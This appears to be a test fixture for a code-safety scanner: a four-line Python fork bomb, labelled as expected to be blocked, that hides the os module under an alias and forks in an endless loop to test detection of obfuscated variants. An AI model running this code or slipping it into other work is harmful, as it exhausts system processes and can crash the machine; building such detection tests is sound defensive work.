# expect: BLOCKED category: fork_bomb variant-of: risky/fork_bomb/while_fork.py technique: alias+concat
import os as _m0
while True:
    _m0.fork()
